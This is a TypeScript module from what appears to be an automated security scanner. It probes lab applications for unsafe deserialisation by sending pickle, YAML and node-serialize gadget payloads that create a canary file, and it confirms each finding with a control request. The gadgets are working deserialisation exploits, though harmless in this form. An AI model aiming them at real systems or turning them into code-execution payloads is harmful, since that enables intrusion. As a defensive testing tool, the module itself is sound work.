import type { Lab } from '../lab.ts'
import type { AttackClass, Proof, Target } from '../proof.ts'
import { eachTarget, targetsFor, titleOf } from './each-target.ts'

const words =
  /\bpickle\b|\bcPickle\b|\bdill\b|\bmarshal\b|\bshelve\b|jsonpickle|yaml\.(?:load|unsafe_load|full_load)|serialize|deserial|\beval\s*\(|unserialize|revive|js-yaml|_\$\$ND_FUNC/i

/** Documents that open a file for writing while they are read; the file's path is their only content. */
const gadgets: readonly (readonly [name: string, write: (file: string) => string])[] = [
  ['pickle', (file) => Buffer.from(`cbuiltins\nopen\n(V${file}\nVw\ntR.`).toString('base64')],
  ['pickle, URL-safe', (file) => Buffer.from(`cbuiltins\nopen\n(V${file}\nVw\ntR.`).toString('base64url')],
  ['pickle, hexadecimal', (file) => Buffer.from(`cbuiltins\nopen\n(V${file}\nVw\ntR.`).toString('hex')],
  ['pickle, plain', (file) => `cbuiltins\nopen\n(V${file}\nVw\ntR.`],
  ['YAML', (file) => `!!python/object/apply:builtins.open ["${file}", "w"]`],
  [
    'function in JSON',
    (file) =>
      JSON.stringify({ a: `_$$ND_FUNC$$_function(){process.getBuiltinModule('fs').writeFileSync('${file}','1')}()` }),
  ],
  [
    'function text in JSON',
    (file) => JSON.stringify({ a: `(function(){process.getBuiltinModule('fs').writeFileSync('${file}','1')})()` }),
  ],
  [
    'function in JSON, base64',
    (file) =>
      Buffer.from(
        JSON.stringify({ a: `_$$ND_FUNC$$_function(){process.getBuiltinModule('fs').writeFileSync('${file}','1')}()` }),
      ).toString('base64'),
  ],
]

/** Demands that a file of a random name appears, and that the path alone makes none. */
export const unsafeDeserialisation: AttackClass = {
  id: 'unsafe-deserialisation',
  attack: (lab) =>
    eachTarget(lab, {
      targets: targetsFor(lab, {
        code: words,
        places: new Set(['query', 'form', 'json', 'header', 'cookie', 'raw', 'file']),
        names: /data|state|session|object|payload|token|prefs?|profile|cart|config|yaml|body|user|import/i,
        except: /pass|email/i,
      }),
      nothing: 'The code of the app reads no serialised objects, or takes no parameters.',
      attempt: (target) => attempt(lab, target),
    }),
}

async function attempt(lab: Lab, target: Target): Promise<Proof | undefined> {
  const send = (value: string, purpose: string) =>
    target.parameter.place === 'file'
      ? lab.submit(target.endpoint, purpose, {
          files: new Map([[target.parameter.name, { fileName: 'data.txt', type: 'text/plain', content: value }]]),
        })
      : lab.attempt(target, value, purpose)
  for (const [family, write] of gadgets) {
    const word = lab.word()
    const exchange = await send(
      write(`${lab.parts.canary.folder}/${word}`),
      'sends an object that opens a canary file while it is read',
    )
    if (!(await lab.touched(word))) continue
    const control = lab.word()
    const plain = await send(`${lab.parts.canary.folder}/${control}`, 'sends the path alone')
    if (await lab.touched(control)) continue
    return {
      rule: 'unsafe-deserialisation',
      ...target,
      message: `An object in ${titleOf(target)} did something while it was read: it made the file ${lab.parts.canary.folder}/${word}.`,
      exchanges: [exchange, plain],
      observed: [`The file ${lab.parts.canary.folder}/${word} appeared; the path alone made none.`],
      family,
    }
  }
  return undefined
}
